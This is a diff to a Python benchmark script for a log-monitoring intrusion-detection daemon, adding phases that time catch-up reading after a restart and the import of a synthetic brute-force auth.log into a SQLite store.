+        backlog[n] = os.path.join(srcdir, fn)
+        with open(os.path.join(corpus, fn), "rb") as f, open(warm[n], "wb") as w, open(backlog[n], "wb") as b:
+            for _ in range(2000):
+                w.write(f.readline())
+            while True:
+                chunk = f.read(1 << 24)
+                if not chunk:
+                    break
+                nlines += chunk.count(b"\n")
+                b.write(chunk)
+    nbytes = sum(os.path.getsize(p) for p in backlog.values())
+    runs = []
+    for r in range(args.catchup_runs):
+        d = start_daemon(args, "catchup", [(n, t) for n, t, _ in names])
+        for n in warm:
+            shutil.copyfile(warm[n], d.logs[n])
+        wait_caught_up(d, sizes_of(d), args.catchup_timeout)
+        d.stop()
+        for n in backlog:
+            with open(backlog[n], "rb") as src, open(d.logs[n], "ab") as dst:
+                shutil.copyfileobj(src, dst, 1 << 20)
+        la = loadavg()
+        log(f"catchup run {r + 1}/{args.catchup_runs}: restart with {nbytes / 1e6:.0f} MB behind (load average {la})")
+        t0 = time.time()
+        d.start()
+        ready = d.ready_at - t0
+        trace = []  # (time, committed bytes) whenever the committed offset moved
+
+        def on_poll(offs):
+            b = sum(offs.values())
+            if not trace or trace[-1][1] != b:
+                trace.append((time.time(), b))
+        _, last_us, commits = wait_caught_up(d, sizes_of(d), args.catchup_timeout, on_poll=on_poll)
+        cpu = d.cpu()  # the whole process, start-up included, as scan's rusage
+        sched = d.sched()
+        _, hwm = d.mem()
+        h = commit_hist(metrics_settled(d, http_port(d)))
+        finish_daemon(d)
+        wall = last_us / 1e6 - t0
+        # Where the wall time went: the pipeline thread on a CPU, waiting for one, or neither
+        # (blocked); and the longest stretch with no commit moving the offsets.
+        marks = [t0] + [t for t, _ in trace] + [last_us / 1e6]
+        pause = max(b - a for a, b in zip(marks, marks[1:]))
+        runs.append({"kind": "daemon", "wall": wall, "ready_s": ready, "cpu": cpu, "hwm_kb": hwm,
+                     "commits": commits, "load": la, "pipeline_on_cpu": sched[0] if sched else None,
+                     "pipeline_runq": sched[1] if sched else None, "longest_pause_s": pause,
+                     "commits_run": int(h[0]), "commit_s_sum": h[1], "commit_max_le": hist_bound((0, 0, []), h, 1.0),
+                     "progress": [(round(t - t0, 3), b) for t, b in trace]})
+        log(f"  caught up in {wall:.2f} s ({cpu:.2f} s CPU)")
+        la = loadavg()
+        wall, cpu, maxrss, summary = run_scan(args, list(backlog.values()))
+        runs.append({"kind": "scan", "wall": wall, "cpu": cpu, "hwm_kb": maxrss, "summary": summary, "load": la})
+        log(f"  scan: {wall:.2f} s ({cpu:.2f} s CPU)")
+    out["catchup"] = {"bytes": nbytes, "lines": nlines, "runs": runs}
+    dm = [x for x in runs if x["kind"] == "daemon"]
+    sc = [x for x in runs if x["kind"] == "scan"]
+    bd, bs = min(dm, key=lambda x: x["wall"]), min(sc, key=lambda x: x["wall"])
+    cd, cs = min(x["cpu"] for x in dm), min(x["cpu"] for x in sc)
+    print(f"8. Catch-up: {nbytes / 1e6:.1f} MB, {nlines:,} lines (corpus auth.log + access.log) appended while the daemon "
+          f"was stopped, read on restart; best of {args.catchup_runs}")
+    print()
+    fmt = "  {:<48} {:>7} {:>7} {:>9} {:>6} {:>12} {:>9}"
+    print(fmt.format("", "wall s", "MB/s", "lines/s", "CPU s", "lines/CPU-s", "VmHWM MB"))
+    for label, b, c in (("canhgac run: start to the catching-up commit", bd, cd),
+                        ("canhgac scan, same bytes (reference)", bs, cs)):
+        print(fmt.format(label, f"{b['wall']:.3f}", f"{nbytes / 1e6 / b['wall']:.1f}", f"{nlines / b['wall']:,.0f}",
+                         f"{c:.2f}", f"{nlines / c:,.0f}", f"{b['hwm_kb'] / 1024:.1f}"))
+    print()
+    print(f"  catch-up / scan throughput: {bs['wall'] / bd['wall']:.2f} x by wall clock, {cs / cd:.2f} x by CPU time "
+          f"(1: catching up costs what scanning does)")
+    after = bd["wall"] - bd["ready_s"]
+    print(f"  daemon, best run: READY {bd['ready_s']:.3f} s after start (scan's start-up is in its time too); from READY "
+          f"{after:.3f} s, {nbytes / 1e6 / after:.1f} MB/s; {bd['commits']} commits in all; "
+          f"load average {bd['load']} (scan: {bs['load']})")
+    if bd["pipeline_on_cpu"] is not None:
+        print(f"  its pipeline thread: {bd['pipeline_on_cpu']:.3f} s on a CPU, {bd['pipeline_runq']:.3f} s waiting for one "
+              f"(machine load), {max(0.0, bd['wall'] - bd['pipeline_on_cpu'] - bd['pipeline_runq']):.3f} s neither "
+              f"(blocked: fsync, sleeping); longest time with no commit moving the offsets "
+              f"{bd['longest_pause_s']:.3f} s; committed MB at each move: "
+              + ", ".join(f"{t:.2f} s {b / 1e6:.0f}" for t, b in bd["progress"][:12]))
+        print(f"  its {bd['commits_run']} commits took {bd['commit_s_sum']:.3f} s in all, the slowest <= "
+              f"{fmt_ms(bd['commit_max_le'])} ms (/metrics histogram); the daemon spaces commits at least 10 x the "
+              f"last one's duration apart (daemon.rs COMMIT_GAP_FACTOR), so a slow commit delays the next")
+    print()
+
+
+# ----------------------------------------------------------------------------------- import
+
+IMPORT_VERSION = 1  # bump when the import corpus for the same parameters changes
+
+
+def make_import_corpus(args):
+    """An attack-heavy auth.log: IMPORT_INCIDENTS addresses, each with five failed passwords
+    (the brute-force threshold) a second apart and then one benign line, one line a second;
+    mtime just after the last line, so the year inferred for its stamps is this one or the
+    last. Reused while the parameters are the same."""
+    outdir = os.path.join(args.bench_dir, "import")
+    os.makedirs(outdir, exist_ok=True)
+    path = os.path.join(outdir, "auth.log")
+    manifest = os.path.join(outdir, "import.json")
+    params = {"version": IMPORT_VERSION, "incidents": args.import_incidents}
+    try:
+        with open(manifest) as f:
+            old = json.load(f)
+        if old["params"] == params and os.path.getsize(path) == old["bytes"]:
+            log(f"import corpus: reusing {path}")
+            return path, old
+    except (OSError, ValueError, KeyError):
+        pass
+    log(f"import corpus: writing {args.import_incidents:,} attackers to {path}")
+    n = args.import_incidents
+    end = int(time.time()) - 3600
+    begin = end - 6 * n
+    lines = 0
+    with open(path + ".tmp", "w", encoding="latin-1", newline="") as f:
+        parts = []
+        for i in range(n):
+            t = begin + 6 * i
+            for a in range(5):
+                parts.append(ssh_failure(syslog_stamp(t + a), i, 6 * i + a))
+            parts.append(benign_auth(syslog_stamp(t + 5), i))
+            if len(parts) >= 60000:
+                f.write("".join(parts))
+                lines += len(parts)
+                parts = []
+        f.write("".join(parts))
+        lines += len(parts)
+    os.utime(path + ".tmp", (end + 60, end + 60))
+    os.replace(path + ".tmp", path)
+    meta = {"params": params, "bytes": os.path.getsize(path), "lines": lines, "begin": begin, "end": end}
+    with open(manifest, "w") as f:
+        json.dump(meta, f, indent=2)
+    return path, meta
+
+
+def run_import(args, config, path, wrap=()):
+    """`canhgac import` of one file (optionally under `wrap`, e.g. strace). Returns wall s, CPU s,
+    peak RSS KB, bytes written (rusage: write_bytes / 512 blocks), the last /proc/PID/io seen,
+    and its output."""
+    err = os.path.join(os.path.dirname(config), "import.out")
+    io = {}
+    with open(err, "wb") as e:
+        t0 = time.time()
+        p = subprocess.Popen([*wrap, args.bin, "import", "--config", config, "--type", "syslog", "--input", "auth", path],
+                             stdin=subprocess.DEVNULL, stdout=e, stderr=e, preexec_fn=_die_with_parent)
+        while True:
+            # wait4, not poll(): its rusage is this child's alone (under strace: strace and the
+            # traced import it reaped).
+            pid, status, ru = os.wait4(p.pid, os.WNOHANG)
+            if pid:
+                break
+            try:
+                with open(f"/proc/{p.pid}/io") as f:
+                    io = {k.strip(): int(v) for k, _, v in (l.partition(":") for l in f)}
+            except (OSError, ValueError):
+                pass
+            time.sleep(0.02)
+        wall = time.time() - t0
+        p.returncode = os.waitstatus_to_exitcode(status)
+    with open(err, encoding="utf-8", errors="replace") as e:
+        text = RE_ANSI.sub("", e.read())
+    if p.returncode != 0:
+        raise SystemExit(f"canhgac import exited with status {p.returncode}:\n{text[-2000:]}")
+    return wall, ru, io, text
+
+
+def strace_writes(trace):
+    """{kind of file: [write calls, bytes, fsyncs]} from `strace -f -y` output, the file told by
+    the path strace prints for each descriptor."""
+    res = {}
+    pending = {}  # pid -> (call, path) of an unfinished call
+    re_call = re.compile(r"^(\d+)\s+(\w+)\((\d+)<([^>]*)>")
+    re_resumed = re.compile(r"^(\d+)\s+<\.\.\. (\w+) resumed>.*=\s+(-?\d+)")
+    re_ret = re.compile(r"=\s+(-?\d+)(?: \w+ \(.*\))?$")
+
+    def kind(path):
+        # SQLite names its temporary files etilqs_* and unlinks them at once, or (recent
+        # versions) opens them O_TMPFILE, which strace shows as DIR/#INODE.
+        if "etilqs" in path or "(deleted)" in path or re.search(r"/#\d+$", path):
+            return "temporary (unnamed, " + os.path.dirname(path) + ")"
+        if path.endswith("-wal"):
+            return "WAL (canhgac.db-wal)"
+        if path.endswith("-journal"):
+            return "rollback journal"
+        if path.endswith("-shm"):
+            return "WAL index (-shm)"
+        if path.endswith(".db"):
+            return "database (canhgac.db)"
+        if path.startswith(("pipe:", "socket:", "/dev/")):
+            return "pipes, sockets, terminal"
+        return "other: " + os.path.basename(path)
+
+    def add(call, path, ret):
+        k = res.setdefault(kind(path), [0, 0, 0])
+        if call in ("fsync", "fdatasync"):
+            k[2] += 1
+        elif ret > 0:
+            k[0] += 1
+            k[1] += ret
+
+    with open(trace, errors="replace") as f:
+        for line in f:
+            m = re_call.match(line)
+            if m:
+                pid, call, _, path = m.groups()
+                if line.rstrip().endswith("<unfinished ...>"):
+                    pending[pid] = (call, path)
+                    continue
+                r = re_ret.search(line.rstrip())
+                if r and call in ("write", "pwrite64", "writev", "pwritev", "pwritev2", "fsync", "fdatasync"):
+                    add(call, path, int(r.group(1)))
+                continue
+            m = re_resumed.match(line)
+            if m and m.group(1) in pending:
+                call, path = pending.pop(m.group(1))
+                add(call, path, int(m.group(3)))
+    return res
+
+
+def phase_import(args, out):
+    """`canhgac import` of an attack-heavy history: incidents/s and the bytes it writes, against
+    `canhgac scan` of the same file."""
+    path, meta = make_import_corpus(args)
+    nbytes, nlines = meta["bytes"], meta["lines"]
+    la = loadavg()
+    log(f"import: scan of {nbytes / 1e6:.0f} MB, {nlines:,} lines (reference; load average {la})")
+    s_wall, s_cpu, s_rss, s_summary = run_scan(args, [path])
+    m = re.search(r"(\d+) incidents", s_summary)
+    s_inc = int(m.group(1)) if m else None
+
+    cfg = Daemon(args.bin, os.path.join(args.work, "import"), [("auth", "syslog")], args.pidfile)
+    log("import: canhgac import into a fresh store")
+    wall, ru, io, text = run_import(args, cfg.config, path)
+    cpu = ru.ru_utime + ru.ru_stime
+    written = ru.ru_oublock * 512
+    c = sqlite3.connect(f"file:{cfg.db_path}?mode=ro", uri=True)
+    try:
+        stored = c.execute("SELECT count(*) FROM incidents").fetchone()[0]
+    finally:
+        c.close()
+    store_files = {f: os.path.getsize(os.path.join(cfg.dir, "state", f)) for f in os.listdir(os.path.join(cfg.dir, "state"))}
+    tables = table_bytes(cfg.db_path)
+    res = {"bytes": nbytes, "lines": nlines, "scan": {"wall": s_wall, "cpu": s_cpu, "hwm_kb": s_rss, "summary": s_summary,
+                                                    "incidents": s_inc},
+           "import": {"wall": wall, "cpu": cpu, "written": written, "proc_io_last": io, "incidents": stored,
+                      "hwm_kb": ru.ru_maxrss, "store_files": store_files, "tables": tables,
+                      "output": text[-2000:]}, "load": la}
+
+    strace = None
+    if args.import_strace:
+        if shutil.which("strace"):
+            # Under strace every write(2) stops the process twice: a prefix keeps this minutes
+            # shorter than the whole file would.
+            cfg2 = Daemon(args.bin, os.path.join(args.work, "import-strace"), [("auth", "syslog")], args.pidfile)
+            k = min(args.import_incidents, args.import_strace)
+            prefix = os.path.join(cfg2.dir, "auth.log.1")
+            with open(path, "rb") as src, open(prefix, "wb") as dst:
+                for _ in range(6 * k):
+                    dst.write(src.readline())
+            st = os.stat(path)
+            os.utime(prefix, (st.st_atime, st.st_mtime))
+            trace = os.path.join(cfg2.dir, "strace.txt")
+            log(f"import: the first {k:,} addresses again, into a fresh store, under strace -f (writes per file)")
+            s_w, s_ru, _, s_text = run_import(args, cfg2.config, prefix,
+                                              wrap=("strace", "-f", "-y", "-s", "0", "-qq", "-o", trace, "-e",
+                                                    "trace=write,pwrite64,writev,pwritev,pwritev2,fsync,fdatasync"))
+            m = re.search(r"(\d+) incidents stored", s_text)
+            strace = {"wall": s_w, "addresses": k, "lines": 6 * k, "bytes": os.path.getsize(prefix),
+                      "incidents": int(m.group(1)) if m else None, "by_file": strace_writes(trace)}
+        else:
+            log("import: strace not installed; per-file writes skipped")
+    res["strace"] = strace
+    out["import"] = res
+
+    print(f"9. Import of an attack-heavy auth.log: {nbytes / 1e6:.1f} MB, {nlines:,} lines, {args.import_incidents:,} "
+          f"addresses with five failed passwords each (the brute-force threshold); one file, so one transaction")
+    print()
+    fmt = "  {:<40} {:>7} {:>10} {:>12} {:>6} {:>11} {:>12}"
+    print(fmt.format("", "wall s", "incidents", "incidents/s", "CPU s", "written MB", "written/inc."))
+    print(fmt.format("canhgac import, into a fresh store", f"{wall:.2f}", f"{stored:,}", f"{stored / wall:,.0f}",
+                     f"{cpu:.2f}", fmt_mb(written), "-" if not stored else f"{written / stored:,.0f} B"))
+    print(fmt.format("canhgac scan, same file (reference)", f"{s_wall:.2f}", "-" if s_inc is None else f"{s_inc:,}",
+                     "-" if not s_inc else f"{s_inc / s_wall:,.0f}", f"{s_cpu:.2f}", "-", "-"))
+    print()
+    print(f"  import / scan: {s_wall / wall:.2f} x by wall clock, {s_cpu / cpu:.2f} x by CPU time; written = rusage "
+          f"blocks out x 512 (= /proc/PID/io write_bytes); the store holds "
+          + ", ".join(f"{k} {v / 1e6:.1f} MB" for k, v in sorted(store_files.items())) + " after it")
+    if io:
+        print(f"  last /proc/PID/io seen before it exited (every 20 ms): write_bytes {io.get('write_bytes', 0) / 1e6:,.1f} MB "
+              f"(to storage), cancelled_write_bytes {io.get('cancelled_write_bytes', 0) / 1e6:,.1f} MB (dirtied, then "
+              f"dropped before writeback), wchar {io.get('wchar', 0) / 1e6:,.1f} MB (passed to write(2) calls, page cache "
+              f"included: {io.get('wchar', 0) / max(stored, 1) / 1e3:,.1f} kB per incident)")
+    if strace:
+        print(f"  write(2)-family calls by file: import of the file's first {strace['addresses']:,} addresses "
+              f"({strace['lines']:,} lines, {strace['bytes'] / 1e6:.1f} MB, {strace['incidents'] or 0:,} incidents) into a "
+              f"fresh store under strace -f -y ({strace['wall']:.1f} s):")
+        for k, (calls, b, syncs) in sorted(strace["by_file"].items(), key=lambda kv: -kv[1][1]):
+            print(f"    {k:<34} {calls:>9,} calls {b / 1e6:>10.1f} MB {syncs:>6} fsyncs")
+        if not any(k.startswith("temporary") for k in strace["by_file"]):
+            print("    no writes to temporary files")
+    last = [l for l in text.splitlines() if l.strip()]
+    if last:
+        print(f"  import says: {last[-1][:200]}")
+    print(f"  load average at the start: {la}")
     print()
 
 
@@ -1152,11 +2089,30 @@ def main():
     ap.add_argument("--cold-scrapes", type=int, default=30, help="scrapes timed right after a commit")
     ap.add_argument("--scrape-interval", type=float, default=0.5, help="seconds between scrapes under load")
     ap.add_argument("--perf", type=int, default=0, help="seconds of `perf record` on the daemon during the push")
+    ap.add_argument("--keys", default="0,1000,10000,100000", help="live detector keys per row of the keys phase")
+    ap.add_argument("--keys-max-keys", type=int, default=200000, help="[pipeline] max_keys, keys and amplification")
+    ap.add_argument("--keys-rate", type=float, default=2000, help="lines/s of the keys phase's steady mix")
+    ap.add_argument("--keys-seconds", type=float, default=20, help="seconds of the steady mix per row")
+    ap.add_argument("--amp-seconds", type=float, default=30, help="seconds of each amplification load")
+    ap.add_argument("--amp-mbps", type=float, default=4.0, help="benign MB/s of the normal mix")
+    ap.add_argument("--amp-attacks", type=float, default=20, help="attack lines/s of the normal mix")
+    ap.add_argument("--sqli-pool", type=int, default=20000, help="addresses of the slow SQLi scan")
+    ap.add_argument("--sqli-rate", type=float, default=10, help="SQLi requests/s of the slow scan")
+    ap.add_argument("--mem-idle", type=float, default=5, help="seconds idle before the memory phase's push")
+    ap.add_argument("--mem-settle", type=float, default=60, help="seconds after catching up to the settled RSS")
+    ap.add_argument("--catchup-corpus", help="make_corpus.py output for the catchup phase (default: --corpus)")
+    ap.add_argument("--catchup-runs", type=int, default=2)
+    ap.add_argument("--import-incidents", type=int, default=300000, help="attacking addresses in the import file")
+    ap.add_argument("--import-strace", type=int, default=20000,
+                    help="addresses of the prefix imported again under strace -f (writes per file; 0: none)")
     args = ap.parse_args()
     if not (0 < args.ssh_pool <= 1 << 22 and 0 < args.web_pool <= 1 << 16):
         ap.error("--ssh-pool 1..2^22 (100.64.0.0/10), --web-pool 1..2^16 (198.18.0.0/16)")
+    if not (0 < args.sqli_pool <= 1 << 16 and 0 < args.import_incidents <= 1 << 22):
+        ap.error("--sqli-pool 1..2^16 (198.18.0.0/16), --import-incidents 1..2^22 (100.64.0.0/10)")
+    args.catchup_corpus = args.catchup_corpus or args.corpus
     # Relative paths in the daemon's config are taken from the config's directory: use absolute ones.
-    for a in ("bin", "corpus", "bench_dir", "work", "results", "pidfile"):
+    for a in ("bin", "corpus", "catchup_corpus", "bench_dir", "work", "results", "pidfile"):
         setattr(args, a, os.path.abspath(getattr(args, a)))
     os.makedirs(args.results, exist_ok=True)
     os.makedirs(args.work, exist_ok=True)
@@ -1167,11 +2123,20 @@ def main():
         signal.signal(s, on_signal)
 
     out = {"date": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"), "loadavg_start": loadavg()}
-    phases = [p.strip() for p in args.phases.split(",") if p.strip()]
+    run = {"throughput": phase_throughput, "latency": phase_latency, "push": phase_push, "scrape": phase_scrape,
+           "keys": phase_keys, "amplification": phase_amplification, "memory": phase_memory,
+           "catchup": phase_catchup, "import": phase_import}
+    aliases = {"state": STATE_PHASES, "all": list(run)}
+    phases = []
+    for p in (p.strip() for p in args.phases.split(",")):
+        for q in aliases.get(p, [p] if p else []):
+            if q not in run:
+                ap.error(f"unknown phase {q!r} (phases: {', '.join(run)}; aliases: {', '.join(aliases)})")
+            if q not in phases:
+                phases.append(q)
     try:
         for p in phases:
-            {"throughput": phase_throughput, "latency": phase_latency, "push": phase_push,
-             "scrape": phase_scrape}[p](args, out)
+            run[p](args, out)
     finally:
         stop_all()
         out["loadavg_end"] = loadavg()
